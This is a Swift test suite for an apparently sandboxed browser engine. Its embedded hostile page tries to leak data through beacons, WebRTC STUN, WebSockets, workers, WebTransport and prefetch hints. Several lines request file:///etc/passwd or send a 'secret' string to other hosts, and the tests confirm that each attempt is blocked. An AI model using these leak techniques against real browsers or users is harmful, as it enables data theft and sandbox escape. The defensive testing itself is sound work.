import Glibc
import HarkText
import HarkThreads
import HarkWeb
import TestThreads
import Testing

@testable import HarkLive

/// A socket for datagrams on this machine.
private final class DatagramListener: Sendable {
  let port: UInt16
  private let socket: CInt

  init() {
    socket = Glibc.socket(AF_INET, CInt(SOCK_DGRAM.rawValue) | CInt(SOCK_CLOEXEC.rawValue), 0)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
    var size = socklen_t(MemoryLayout<sockaddr_in>.size)
    withUnsafeMutablePointer(to: &address) { [socket] pointer in
      pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { address in
        _ = bind(socket, address, size)
        _ = getsockname(socket, address, &size)
      }
    }
    port = UInt16(bigEndian: address.sin_port)
  }

  deinit { close(socket) }

  /// Whether anything has come.
  var hasHeard: Bool {
    var byte: UInt8 = 0
    return recv(socket, &byte, 1, CInt(MSG_DONTWAIT)) >= 0
  }
}

@Suite(
  .startsEngine, .waits, .serialized,
  .enabled(if: LivePlace.isReady, "no browser engine is installed, or it can have no cage here"))
struct `A hostile page` {
  /// Tries all ways out that a page has but requests, and says when each has come to its end.
  private static func page(_ other: UInt16, _ datagrams: UInt16) -> String {
    """
    <!doctype html><title>Hostile</title>
    <link rel=dns-prefetch href=//prefetched.example>
    <link rel=preconnect href=http://127.0.0.1:\(other)>
    <link rel=prefetch href=http://127.0.0.1:\(other)/prefetch>
    <script type=speculationrules>
      {"prefetch": [{"urls": ["http://127.0.0.1:\(other)/rules"]}]}
    </script>
    <iframe srcdoc="<script>window.Calls = window.RTCPeerConnection</script>"></iframe>
    <script>
    const other = "127.0.0.1:\(other)";
    const ended = make => new Promise(done => {
      try { make(done) } catch (error) { done(String(error)) }
    });
    const all = async () => {
      const calls = window.RTCPeerConnection ?? frames[0].RTCPeerConnection;
      if (calls) {
        const call = new calls({ iceServers: [{ urls: "stun:127.0.0.1:\(datagrams)" }] });
        call.createDataChannel("x");
        await call.setLocalDescription(await call.createOffer());
      }
      navigator.sendBeacon("http://" + other + "/beacon", "secret");
      new Image().src = "file:///etc/passwd";
      const results = [
        await ended(done => {
          const socket = new WebSocket("ws://elsewhere.example/socket");
          socket.onopen = () => done("open");
          socket.onerror = () => done("closed");
        }),
        await navigator.serviceWorker.register("/worker.js").then(() => "open", () => "closed"),
        await ended(done => {
          const worker = new Worker("/socket.js");
          worker.onmessage = event => done(event.data);
        }),
        await ended(done => new WebTransport("https://" + other).ready
          .then(() => done("open"), () => done("closed"))),
        await fetch("file:///etc/passwd").then(() => "open", () => "closed"),
        await ended(done => {
          const source = new EventSource("http://" + other + "/events");
          source.onerror = () => done("closed");
        }),
      ];
      return results.join(" ");
    };
    </script>
    """
  }

  @Test(.timeLimit(.minutes(5)))
  func `no way out is left to a page but its requests, and each that is tried is counted`() throws {
    let other = try #require(PageServer([:]))
    let datagrams = DatagramListener()
    let server = try #require(
      PageServer([
        "/": .html(Self.page(other.port, datagrams.port)), "/worker.js": .script(""),
        "/socket.js": .script(
          """
          const socket = new WebSocket("ws://elsewhere.example/worker");
          socket.onopen = () => postMessage("open");
          socket.onerror = () => postMessage("closed");
          """),
      ]))
    let stage = try LiveStage()
    try stage.go("http://127.0.0.1:\(server.port)/")
    let results = try stage.evaluate("all()")
    #expect(results == "closed closed closed closed closed closed")
    // News are a request as others are, and go by the same rules.
    #expect(other.lines == ["GET /events HTTP/1.1"])
    #expect(!datagrams.hasHeard)
    #expect(Set(server.lines) == ["GET / HTTP/1.1", "GET /socket.js HTTP/1.1"])
    let refusals = stage.tab.refusals
    #expect(refusals[.socket] ?? 0 >= 1)
    #expect(refusals[.otherWay] ?? 0 >= 2)
    #expect(refusals[.serviceWorker] == 1)
    #expect(refusals[.unasked] ?? 0 >= 2)
    // What came to the proxy was the page's: the engine asks for nothing of its own.
    let strangers = stage.refused.filter {
      $0.hasPrefix("otherWay") && !$0.contains("127.0.0.1:\(other.port)")
        && !$0.contains("elsewhere.example")
    }
    #expect(strangers == [])
  }

  @Test(.timeLimit(.minutes(5)))
  func `a page of the web reaches nothing of this machine, and from https nothing in plain`() throws
  {
    let local = try #require(PageServer(["/": .html("local")]))
    let stage = try LiveStage()
    try stage.goToBank()
    for place in ["http://127.0.0.1:\(local.port)/", "http://localhost:\(local.port)/"] {
      let answer = try stage.evaluate(
        "fetch('\(place)', { mode: 'no-cors' }).then(() => 'open', () => 'closed')")
      #expect(answer == "closed")
    }
    let frame = try stage.evaluate(
      """
      new Promise(done => {
        const frame = document.createElement('iframe');
        frame.onload = () => done('ended');
        frame.src = 'http://127.0.0.1:\(local.port)/';
        document.body.append(frame);
      })
      """)
    #expect(frame == "ended")
    #expect(local.connected == 0)
  }

  @Test
  func `what a page asks for in plain is asked for by https, and only a person allows another`()
    throws
  {
    let page = try #require(Address("http://paper.example/"))
    let rules = RequestRules(http: HTTPPolicy(), page: page)
    func ruling(_ href: String, _ rules: RequestRules, type: String = "XHR") throws
      -> RequestRules.Ruling
    {
      rules.ruling(on: try request(href, type: type), isPage: type == "Document")
    }
    let secure = try #require(Address("https://other.example/a?b"))
    #expect(try ruling("http://other.example/a?b", rules) == .secure(secure))
    var allowed = rules
    allowed.http.allowedHosts = ["other.example"]
    let plain = try #require(Address("http://other.example/"))
    #expect(try ruling("http://other.example/", allowed) == .fetch(plain, .get))
    allowed.page = try #require(Address("https://paper.example/"))
    #expect(
      try ruling("http://other.example/", allowed)
        == .secure(#require(Address("https://other.example/"))))
    #expect(try ruling("http://other.example/", allowed, type: "Document") == .fetch(plain, .get))
    #expect(try ruling("http://[::1]:8080/", rules) == .refuse(.loopback))
    #expect(try ruling("file:///etc/passwd", rules) == .refuse(.scheme))
    #expect(try ruling("chrome://settings", rules) == .refuse(.scheme))
    #expect(try ruling("data:text/plain,a", rules) == .pass)
    #expect(try ruling("https://other.example/", rules, type: "Ping") == .refuse(.unasked))
  }

  private func request(_ href: String, type: String) throws -> PausedRequest {
    let text =
      #"{"requestId": "1", "resourceType": "\#(type)", "request": "#
      + #"{"url": "\#(href)", "method": "GET", "headers": {}}}"#
    let tree = try #require(JSONTree(Array(text.utf8)))
    return try #require(
      PausedRequest(
        DevToolsEvent(
          method: "Fetch.requestPaused", session: "S", parameters: DevToolsValue(tree))))
  }
}
